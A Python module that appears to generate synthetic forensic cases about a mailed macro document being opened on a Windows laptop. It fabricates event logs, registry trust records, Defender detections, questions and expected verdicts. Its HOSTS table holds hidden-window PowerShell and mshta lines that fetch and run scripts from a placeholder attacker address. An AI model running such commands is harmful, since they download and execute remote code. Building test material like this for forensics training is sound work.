"""Opened attachment: a document came by mail; was it opened, and did it start code?"""

from __future__ import annotations

from datetime import datetime, timedelta

from wigmore.generator import shown
from wigmore.generator.case import Case
from wigmore.generator.clocks import filetime
from wigmore.generator.windows import defender, office, sysmon
from wigmore.generator.windows.computer import Computer

TITLE = "Opened attachment"
FRAME = "malicious_file_opened"
SOURCE, FOLDER = "src-computer", "computer"
OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16"
SYSTEM32 = "C:\\Windows\\System32"
PROGRAMS = {"docm": ("WINWORD.EXE", "Word"), "xlsm": ("EXCEL.EXE", "Excel")}
HOSTS = (
    (f"{SYSTEM32}\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell -w hidden -c iwr http://{address}/{name}.txt"),
    (f"{SYSTEM32}\\mshta.exe", "mshta http://{address}/{name}.hta"),
    (f"{SYSTEM32}\\wscript.exe", "wscript C:\\Users\\Public\\{name}.js"),
    (f"{SYSTEM32}\\rundll32.exe", "rundll32 C:\\Users\\Public\\{name}.dll,Start"),
)


def build(case: Case) -> str:
    """Write the computer; returns the case's description.

    Guilty: the document's program started a script host, which reached an outside address. Innocent: protection stopped the
    file, or the document's content was never allowed and the work's own template was. Ambiguous: content was allowed for it,
    and the logs begin later or are missing; or a helper was started, as work documents do too.
    """
    world, dice = case.world, case.world.random("attachment")
    computer = Computer(case, SOURCE, FOLDER, world.laptop)
    computer.log(*sysmon.week(case, computer.host, computer.account))
    at = world.at(dice.randrange(0, 8), f"{dice.randrange(9, 17)}:{dice.randrange(10, 60)}:31")
    ending = dice.choice(tuple(PROGRAMS))
    name = f"{dice.choice(('Invoice', 'Order', 'Delivery_note', 'Application'))}_{dice.randrange(1000, 9999)}.{ending}"
    innocent = dice.choice(("blocked", "not allowed", "blocked"))
    gap = dice.choice(("later", "missing", "helper"))
    if case.variant == "guilty":
        _ran(case, computer, at, name, ending)
    elif case.variant == "innocent":
        _held(case, computer, at, name, ending, innocent)
    else:
        _allowed(case, computer, name, ending, at)
        if gap == "helper":
            _helper(case, computer, at, name, ending)
        for channel in ("Security", sysmon.CHANNEL):
            events = computer.events[channel]
            if gap != "helper":
                computer.events[channel] = (
                    [] if gap == "missing" else [e for e in events if e.at > at + timedelta(hours=30)]
                )
    kept = [c for c in ("Security", sysmon.CHANNEL, defender.CHANNEL) if computer.events.get(c)]
    computer.close("NTUSER", "System", "prefetch", *kept)
    case.ask(
        f"Was {name} opened on {world.laptop}, and did it start anything?",
        FRAME,
        (name,) if case.variant == "guilty" else (),
    )
    case.ask("What is the name of the computer?", None, (world.laptop,))
    case.expect(FRAME, {"guilty": "supported", "innocent": "not_supported", "ambiguous": "cannot_say"}[case.variant])
    return f"A document {name} was sent to many people of the company: was it opened on {world.laptop}?"


def _place(computer: Computer, name: str) -> str:
    return f"C:\\Users\\{computer.account}\\Downloads\\{name}"


def _allowed(case: Case, computer: Computer, name: str, ending: str, at: datetime) -> None:
    """The trust record of a document whose active content was allowed."""
    application = PROGRAMS[ending][1]
    key = f"Software\\Microsoft\\Office\\16.0\\{application}\\Security\\Trusted Documents\\TrustRecords"
    value = filetime(at).to_bytes(8, "little") + bytes(8) + b"\xf0\x71\x2c\x01\xff\xff\xff\x7f"
    computer.user.key(key, at).set(f"%USERPROFILE%/Downloads/{name}", value)
    hive = f"{computer.home}/NTUSER.DAT"
    case.plant(f"Content of {name} was allowed", SOURCE, hive, "windows.registry.office_trust", (name,), FRAME)


def _child(computer: Computer, at: datetime, name: str, ending: str, program: str, line: str) -> None:
    """A start by the document's program, as Security and Sysmon record it."""
    parent = f"{OFFICE}\\{PROGRAMS[ending][0]}"
    opened = f'"{parent}" "{_place(computer, name)}"'
    before = at - timedelta(seconds=14)
    host, account = computer.host, computer.account
    computer.log(office.started(before, host, account, computer.sid, parent, opened))
    computer.log(sysmon.started(before, host, account, parent, opened))
    computer.log(office.started(at, host, account, computer.sid, program, line, parent))
    computer.log(sysmon.started(at, host, account, program, line, parent))


def _ran(case: Case, computer: Computer, at: datetime, name: str, ending: str) -> None:
    world, dice = case.world, case.world.random("ran")
    program, line = dice.choice(HOSTS)
    line = line.format(address=world.attacker, name=dice.choice(("a1", "upd", "view")))
    if program.endswith("mshta.exe"):
        case.expect("system_program_proxy", "supported")  # its line has a system program run script of another host
    if dice.random() < 0.7:
        _allowed(case, computer, name, ending, at)
    _child(computer, at, name, ending, program, line)
    moment = at + timedelta(seconds=dice.randrange(1, 40))
    computer.log(sysmon.connected(moment, computer.host, computer.account, program, world.attacker, 80))
    log, own = computer.log_path("Security"), computer.log_path(sysmon.CHANNEL)
    if dice.random() < 0.5:
        dropped = f"C:\\Users\\Public\\{dice.choice(('view', 'upd'))}.js"
        parent = f"{OFFICE}\\{PROGRAMS[ending][0]}"
        computer.log(sysmon.file_made(at - timedelta(seconds=2), computer.host, computer.account, parent, dropped))
        case.plant("The document wrote a script", SOURCE, own, "windows.eventlog", ("11", dropped), FRAME)
    started = (line, PROGRAMS[ending][0])
    case.plant("The document's program started a script host", SOURCE, log, "windows.eventlog", started, FRAME)
    reached = ("3", program, world.attacker)
    case.plant("The script host reached an outside address", SOURCE, own, "windows.eventlog", reached)


def _held(case: Case, computer: Computer, at: datetime, name: str, ending: str, how: str) -> None:
    """The file was stopped or its content left off; the work's own template is allowed."""
    _allowed(case, computer, f"time_sheet_template.{ending}", ending, at - timedelta(hours=2))
    if how == "not allowed":
        return
    threat, user = "Trojan:O97M/Obfuse.RVK!MTB", f"{computer.host}\\{computer.account}"
    about = (computer.host, threat, _place(computer, name), user, f"{OFFICE}\\OUTLOOK.EXE")
    computer.log(defender.detected(at, *about), defender.acted(at + timedelta(seconds=3), *about))
    log = computer.log_path(defender.CHANNEL)
    values = ("1116", threat, shown.filetime(at))
    case.plant("Protection stopped the file", SOURCE, log, "windows.eventlog", values)
    case.decoy("The document ran", "it was stopped before any start", SOURCE, log, values, FRAME)


def _helper(case: Case, computer: Computer, at: datetime, name: str, ending: str) -> None:
    """A printing helper that work documents start as well; nothing went outside."""
    line = f"cmd.exe /c print /d:LPT1 {_place(computer, name)}"
    _child(computer, at, name, ending, f"{SYSTEM32}\\cmd.exe", line)
    log = computer.log_path("Security")
    case.plant("The document's program started a shell", SOURCE, log, "windows.eventlog", (line,), FRAME)
